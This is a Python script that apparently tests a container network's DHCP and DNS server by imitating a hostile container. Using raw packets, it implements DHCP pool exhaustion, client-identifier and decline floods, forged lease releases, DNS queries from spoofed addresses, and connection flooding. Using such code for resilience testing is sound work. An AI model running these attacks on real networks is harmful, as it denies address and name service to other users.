"""What a hostile container sends on its eth0, and what an honest one does: attack-net.py VERB ARGUMENT...

lease MAC NAME [ID]      asks for an address under a name; prints the address, fails without one
request MAC ADDRESS ID   asks for this address at once, under an identifier; prints ACK or NAK, fails without an answer
exhaust COUNT            takes as many leases as it gets, each for another MAC; prints how many
identify COUNT           the same with one MAC and other client identifiers
decline COUNT            the same, and declines each address
release MAC ADDRESS      gives back the lease of a MAC, without an answer
questions COUNT          asks DNS from COUNT forged addresses of the network, and does not wait for answers
connect COUNT            opens COUNT connections to the DNS server, and keeps them until standard input ends
"""
import os, random, socket, struct, sys, time

SERVER = bytes([10, 0, 3, 1])
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
s.bind(("eth0", 0))
own = s.getsockname()[4]


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def datagram(source_mac, to_mac, source, to, source_port, port, payload):
    udp = struct.pack("!4H", source_port, port, 8 + len(payload), 0) + payload
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0, source, to)
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    s.send(to_mac + source_mac + b"\x08\0" + ip + udp)


def mac_of(text):
    return bytes.fromhex(text.replace(":", ""))


def send(kind, mac, xid, options=b"", client_address=b"\0" * 4):
    dhcp = struct.pack("!4BIHH4s12x6s10x192x", 1, 1, 6, 0, xid, 0, 0, client_address, mac)
    dhcp += b"\x63\x82\x53\x63" + bytes([53, 1, kind]) + options + b"\xff"
    datagram(mac, b"\xff" * 6, client_address, b"\xff" * 4, 68, 67, dhcp)


def option(code, value):
    return bytes([code, len(value)]) + value if value else b""


def answer(xid, seconds=1.0):
    """(type, address) of the reply to a transaction, or None."""
    end = time.time() + seconds
    while time.time() < end:
        s.settimeout(max(0.01, end - time.time()))
        try:
            frame = s.recv(2000)
        except socket.timeout:
            return None
        if frame[23] == 17 and frame[34:38] == b"\0\x43\0\x44" and frame[46:50] == struct.pack("!I", xid):
            return frame[284], frame[58:62]
    return None


def lease(mac, name=b"", identifier=b"", tries=3, seconds=1.0):
    xid = random.getrandbits(32)
    more = option(12, name) + option(61, identifier)
    for _ in range(tries):
        send(1, mac, xid, more)
        offer = answer(xid, seconds)
        if not offer or offer[0] != 2:
            continue
        xid += 1
        send(3, mac, xid & 0xFFFFFFFF, option(50, offer[1]) + option(54, SERVER) + more)
        ack = answer(xid & 0xFFFFFFFF, seconds)
        if ack and ack[0] == 5:
            return ack[1]
    return None


def random_mac():
    return b"\x02" + os.urandom(5)


def take(count, client, declines=False):
    got = set()
    misses = 0
    for i in range(count):
        mac, identifier = client(i)
        address = lease(mac, b"", identifier, 1, 0.2)
        misses = 0 if address else misses + 1
        if address:
            got.add(address)
            if declines:
                send(4, mac, random.getrandbits(32), option(50, address) + option(54, SERVER) + option(61, identifier))
        if misses > 30:
            break
    print(len(got))


def questions(count):
    server_mac = mac_of(sys.argv[3])
    for i in range(count):
        name = b"\x06silent" + bytes([8]) + b"%08d" % i + b"\0"
        dns = struct.pack("!6H", random.getrandbits(16), 0x100, 1, 0, 0, 0) + name + struct.pack("!2H", 1, 1)
        source = bytes([10, 0, 3, 2 + i % 250])
        datagram(own, server_mac, source, SERVER, random.randrange(1024, 65535), 53, dns)
        if i % 50 == 0:
            time.sleep(0.01)


verb, arguments = sys.argv[1], sys.argv[2:]
if verb == "lease":
    name, identifier = arguments[1].encode(), arguments[2].encode() if arguments[2:] else b""
    address = lease(mac_of(arguments[0]) if arguments[0] != "own" else own, name, identifier)
    print(socket.inet_ntoa(address) if address else "no lease")
    sys.exit(not address)
elif verb == "request":
    xid = random.getrandbits(32)
    send(3, mac_of(arguments[0]), xid, option(50, socket.inet_aton(arguments[1])) + option(61, arguments[2].encode()))
    reply = answer(xid)
    print({5: "ACK", 6: "NAK"}.get(reply[0]) if reply else "no answer")
    sys.exit(not reply)
elif verb == "exhaust":
    take(int(arguments[0]), lambda i: (random_mac(), b""))
elif verb == "identify":
    take(int(arguments[0]), lambda i: (own, b"\xff%06d" % i))
elif verb == "decline":
    take(int(arguments[0]), lambda i: (random_mac(), b""), True)
elif verb == "release":
    send(7, mac_of(arguments[0]), random.getrandbits(32), option(54, SERVER), socket.inet_aton(arguments[1]))
elif verb == "questions":
    questions(int(arguments[0]))
elif verb == "connect":
    kept = []
    for i in range(int(arguments[0])):
        c = socket.socket()
        c.bind((arguments[1 + i % len(arguments[1:])], 0))
        c.settimeout(2)
        c.connect(("10.0.3.1", 53))
        kept.append(c)
    print("connected", flush=True)
    sys.stdin.read()
